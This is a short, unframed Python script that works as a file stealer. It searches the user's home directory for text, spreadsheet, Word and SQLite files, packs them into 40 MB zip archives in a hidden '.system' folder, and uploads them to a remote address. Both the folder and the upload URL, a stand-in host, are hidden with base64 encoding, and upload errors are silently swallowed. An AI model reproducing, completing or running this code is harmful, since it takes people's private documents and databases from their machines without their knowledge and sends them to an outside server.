import asyncio
import base64
import os
import zipfile

import aiohttp

ENDINGS = ("txt", "xls", "docx", "sqlite")
FOLDER = "LnN5c3RlbQ=="


def documents(endings):
    found = []
    for root, folders, files in os.walk(os.path.expanduser("~")):
        for file in files:
            if any(file.endswith(ending) for ending in endings):
                found.append(os.path.join(root, file))
    return found


async def hand_over(path, address):
    try:
        form = aiohttp.FormData()
        form.add_field("file", open(path, "rb"))
        async with aiohttp.ClientSession() as session:
            async with session.post(base64.b64decode(address).decode("utf-8"), data=form) as response:
                pass
    except:
        pass


def packed(paths):
    weight = 0
    number = 1
    folder = base64.b64decode(FOLDER).decode("utf-8")
    archive = zipfile.ZipFile(os.path.join(folder, f"a#{number}.zip"), "w")
    for path in paths:
        size = os.path.getsize(path)
        if weight + size > 40 * 1024 * 1024:
            number += 1
            weight = 0
            archive.close()
            archive = zipfile.ZipFile(os.path.join(folder, f"a#{number}.zip"), "w")
        archive.write(path, os.path.basename(path))
        weight += size
    return [os.path.join(folder, f"a#{n}.zip") for n in range(1, number + 1)]


async def start(address):
    archives = packed(documents(ENDINGS))
    await asyncio.gather(*[hand_over(archive, address) for archive in archives])


def connect(address="aHR0cDovL3VwbG9hZC5leGFtcGxlLmludmFsaWQvdXBsb2Fk"):
    asyncio.run(start(address))
